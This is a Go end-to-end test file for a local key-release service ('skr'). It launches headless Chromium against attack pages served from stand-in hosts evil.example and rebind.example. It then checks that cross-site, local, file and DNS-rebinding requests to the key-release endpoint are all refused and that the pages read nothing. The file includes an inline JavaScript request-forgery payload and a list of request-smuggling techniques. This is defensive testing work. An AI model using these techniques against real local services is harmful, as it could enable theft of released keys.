package e2e

import (
	_ "embed" // for the page
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"skr/api"
	"skr/test/emulator"
)

// attackPage tries every way in which a page can send a request.
//
//go:embed testdata/attack.html
var attackPage string

// patience allows for a busy machine; a browser sends all requests in a few seconds.

// seen is a request of a browser, and what skr answered.
type seen struct {
	method       string
	origin, site []string
	status       int
}

// tap listens in front of skr. It forwards each request unchanged, and records it under
// the name in its query.
type tap struct {
	*httptest.Server

	mu   sync.Mutex
	seen map[string][]seen
	more chan struct{}
}

func newTap(t *testing.T, s *sidecar) *tap {
	t.Helper()
	target, err := url.Parse("http://" + s.address)
	if err != nil {
		t.Fatal(err)
	}
	w := &tap{seen: map[string][]seen{}, more: make(chan struct{}, 1)}
	proxy := &httputil.ReverseProxy{
		Rewrite:        func(r *httputil.ProxyRequest) { r.SetURL(target); r.Out.Host = r.In.Host },
		ModifyResponse: w.note,
	}
	w.Server = httptest.NewServer(proxy)
	t.Cleanup(w.Close)
	return w
}

func (w *tap) note(answer *http.Response) error {
	r := answer.Request
	w.mu.Lock()
	name := r.URL.Query().Get("t")
	w.seen[name] = append(w.seen[name], seen{r.Method, r.Header["Origin"], r.Header["Sec-Fetch-Site"], answer.StatusCode})
	w.mu.Unlock()
	select {
	case w.more <- struct{}{}:
	default:
	}
	return nil
}

func (w *tap) port() string { _, port, _ := net.SplitHostPort(w.Listener.Addr().String()); return port }

// missing returns the names that have not been seen.
func (w *tap) missing(names []string) (missing []string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, name := range names {
		if len(w.seen[name]) == 0 {
			missing = append(missing, name)
		}
	}
	return missing
}

// await waits for all names. A browser that never sends one of them would look like a
// browser that is refused.
func (w *tap) await(t *testing.T, names []string) {
	t.Helper()
	late := time.After(patience)
	for {
		missing := w.missing(names)
		if len(missing) == 0 {
			return
		}
		select {
		case <-w.more:
		case <-late:
			t.Fatalf("the browser did not send %q", missing)
		}
	}
}

// browse opens a page in Chromium, which ends with the test. Chromium's own protection of
// local networks is off, because skr is under test.
func browse(t *testing.T, page string) {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("chromium is not installed")
	}
	profile, err := os.MkdirTemp("", "chromium") //nolint:usetesting // its last processes may still write during the removal
	if err != nil {
		t.Fatal(err)
	}
	process := exec.Command(path, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--disable-quic", "--no-proxy-server", "--user-data-dir="+profile, "--remote-debugging-port=0",
		"--ignore-certificate-errors", "--disable-popup-blocking", "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
		"--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.example 127.0.0.1", page)
	process.SysProcAttr = &syscall.SysProcAttr{Setpgid: true} // it starts child processes
	if err := process.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = syscall.Kill(-process.Process.Pid, syscall.SIGKILL)
		_ = process.Wait()
		_ = os.RemoveAll(profile)
	})
}

// attacker serves the page and the redirects, and receives what the page could read.
type attacker struct {
	page string
	mu   sync.Mutex
	read []string
}

func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/redirect":
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
	case "/csp":
		w.Header().Set("Content-Security-Policy", "img-src 'none'; report-uri "+r.URL.Query().Get("to"))
		_, _ = io.WriteString(w, `<img src="/x.png">`)
	case "/read":
		a.mu.Lock()
		defer a.mu.Unlock()
		a.read = append(a.read, r.URL.Query().Get("what"))
	default:
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, a.page)
	}
}

// techniques are the names of the page's requests. The page also provokes a CSP report,
// which this Chromium does not always send. The page does not control the report's body,
// whose members skr does not know.
var techniques = []string{
	"fetch-text", "fetch-form", "fetch-bytes", "fetch-cors", "fetch-no-referrer", "fetch-keepalive", "fetch-json", "beacon", "beacon-blob", "xhr", "worker",
	"form-text", "form-urlencoded", "form-no-referrer", "form-sandboxed", "form-data-url", "form-srcdoc", "ping", "redirect", "form-redirect",
	"get-fetch", "get-image", "get-script", "get-frame", "get-events", "get-navigation",
}

// TestWebPages: skr refuses every request that a page of another site, of another local
// server or of a file sends, and the page reads nothing.
func TestWebPages(t *testing.T) {
	t.Parallel()
	l := newLab(t, emulator.Config{})
	for _, from := range []string{"http", "https", "local", "file"} {
		t.Run(from, func(t *testing.T) {
			s := l.sidecar(t, "SKR_ATTESTATION_MAX_AGE=1h").ready(t)
			w := newTap(t, s)
			controlled(t, l, w)
			before := l.cloud.Faults().Requests(emulator.ServiceAttest) + l.cloud.Faults().Requests(emulator.ServiceRelease)
			a := &attacker{}
			page, server := a.serve(t, from)
			var wanted []string
			hosts := []string{"localhost", "127.0.0.1"}
			for _, host := range hosts {
				for _, technique := range techniques {
					wanted = append(wanted, host+"-"+technique)
				}
			}
			a.page = attackOn(l, w.port(), hosts, server)
			if from == "file" {
				page = "file://" + writeFile(t, "attack.html", a.page)
			}
			browse(t, page)
			w.await(t, wanted)
			w.refusedAll(t)
			after := l.cloud.Faults().Requests(emulator.ServiceAttest) + l.cloud.Faults().Requests(emulator.ServiceRelease)
			if after != before {
				t.Errorf("%d requests went to the authority or the vault", after-before)
			}
			a.mu.Lock()
			defer a.mu.Unlock()
			if len(a.read) > 0 {
				t.Errorf("the page could read %q", a.read)
			}
		})
	}
}

// controlled checks that the page's body succeeds when a program sends it.
func controlled(t *testing.T, l *lab, w *tap) {
	t.Helper()
	answer, err := http.Post(w.URL+api.RouteRelease+"?t=control", "text/plain", strings.NewReader(attackBody(l)))
	if err != nil {
		t.Fatal(err)
	}
	_ = answer.Body.Close()
	if answer.StatusCode != http.StatusOK {
		t.Fatalf("the attack's body, sent by a program, got status %d", answer.StatusCode)
	}
}

func attackBody(l *lab) string {
	return jsonOf(without(goodBodies(l)[api.RouteRelease], "access_token"))
}

// attackOn fills in the page.
func attackOn(l *lab, port string, hosts []string, server string) string {
	return strings.NewReplacer("@BODY@", attackBody(l), "@PORT@", port, "@HOSTS@", strings.Join(hosts, " "), "@SERVER@", server).Replace(attackPage)
}

// serve serves the page, and returns its address and the server's.
func (a *attacker) serve(t *testing.T, from string) (page, server string) {
	t.Helper()
	start := httptest.NewServer
	if from == "https" {
		start = httptest.NewTLSServer
	}
	listening := start(a)
	t.Cleanup(listening.Close)
	_, port, _ := net.SplitHostPort(listening.Listener.Addr().String())
	server = map[string]string{
		"http": "http://evil.example:", "https": "https://evil.example:", "local": "http://localhost:", "file": "http://evil.example:",
	}[from] + port
	return server + "/", server
}

func writeFile(t *testing.T, name, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// refusedAll checks every request except the control.
func (w *tap) refusedAll(t *testing.T) {
	t.Helper()
	w.mu.Lock()
	defer w.mu.Unlock()
	for name, requests := range w.seen {
		for _, r := range requests {
			if name == "control" {
				continue
			}
			if r.status != http.StatusForbidden {
				t.Errorf("%s: %s with Origin %q and Sec-Fetch-Site %q: status %d", name, r.method, r.origin, r.site, r.status)
			}
			if r.method == http.MethodPost && len(r.origin) == 0 && !strings.HasSuffix(name, "-csp") {
				t.Errorf("%s: a POST without an Origin, Sec-Fetch-Site %q; docs/threat-model.md rules that out", name, r.site)
			}
		}
	}
}

// TestRebinding: a page whose name now resolves to this machine has skr's origin. It may
// read every answer, and every answer is a refusal.
func TestRebinding(t *testing.T) {
	t.Parallel()
	l, s := inputLab(t)
	w := newTap(t, s)
	controlled(t, l, w)
	read := make(chan string, 8)
	skr := w.Config.Handler
	w.Config.Handler = http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/page": // from before the name resolved to skr
			out.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprintf(out, `<script>
				const tell = (what, r) => fetch("/read?what=" + what + "-" + r.status);
				fetch("/key/release?t=post", {method: "POST", headers: {"Content-Type": "application/json"}, body: '%s'}).then(r => tell("post", r));
				fetch("/status?t=get").then(r => tell("get", r));
			</script>`, attackBody(l))
		case "/read":
			read <- r.URL.Query().Get("what")
		default:
			skr.ServeHTTP(out, r)
		}
	})
	browse(t, "http://rebind.example:"+w.port()+"/page")
	got := map[string]bool{}
	for late := time.After(patience); len(got) < 2; {
		select {
		case what := <-read:
			got[what] = true
		case <-late:
			t.Fatalf("the page reported %v", got)
		}
	}
	if !got["post-403"] || !got["get-403"] {
		t.Errorf("the page read %v, want 403 for both", got)
	}
	w.refusedAll(t)
}
